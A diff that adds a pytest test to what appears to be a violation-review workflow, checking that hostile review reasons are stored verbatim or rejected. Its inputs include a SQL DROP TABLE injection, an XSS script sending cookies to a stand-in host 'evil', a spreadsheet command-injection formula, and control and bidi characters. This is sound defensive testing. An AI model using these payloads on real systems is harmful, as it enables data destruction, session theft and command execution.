@@ -256,3 +256,35 @@ def test_make_env_without_users_and_stats_for_nobody(tmp_path) -> None:  # type:
         assert list_violations(env.sessions, env.system).total == 0
     finally:
         env.engine.dispose()
+
+
+@pytest.mark.parametrize(
+    ("reason", "error"),
+    [
+        ("'; DROP TABLE violations; --", None),
+        ("<script>document.location='http://evil/'+document.cookie</script>", None),
+        ("第一行\n\t第二行 <b>粗体</b> & \"quotes\" \\ backslash", None),
+        ("=cmd|' /C calc'!A0", None),
+        ("x" * 2001, "is 2001 characters long; at most 2000"),
+        ("bell\x07", "U\\+0007"),
+        ("escape \x1b[2J", "U\\+001B"),
+        ("nul \x00 byte", "U\\+0000"),
+        ("bidi \u202e override", "U\\+202E"),
+        ("zero\u200bwidth", "U\\+200B"),
+        ("line\u2028separator", "U\\+2028"),
+        ("lone \ud800 surrogate", "U\\+D800"),
+    ],
+    ids=lambda v: v[:12] if isinstance(v, str) else v,
+)
+def test_hostile_review_reasons_are_stored_verbatim_or_refused(wf_sqlite: WorkflowEnv, reason: str, error: str | None) -> None:
+    case = wf_sqlite.open_case("no_hat", "cam-a")
+    admin = wf_sqlite.user("admin")
+    if error is not None:
+        with pytest.raises(InputError, match=f"reason: .*{error}"):
+            review_violation(wf_sqlite.sessions, wf_sqlite.sink, admin, case.id, outcome="false_positive", reason=reason)
+        assert violation_detail(wf_sqlite.sessions, admin, case.id).violation.state == "open"
+        return
+    review_violation(wf_sqlite.sessions, wf_sqlite.sink, admin, case.id, outcome="false_positive", reason=reason)
+    detail = violation_detail(wf_sqlite.sessions, admin, case.id)
+    assert detail.reviews[0].reason == reason and detail.violation.state == "dismissed"
+    assert reason not in "".join(wf_sqlite.ledger_payloads(f"violation:{case.id}")), "free text stays out of the ledger"
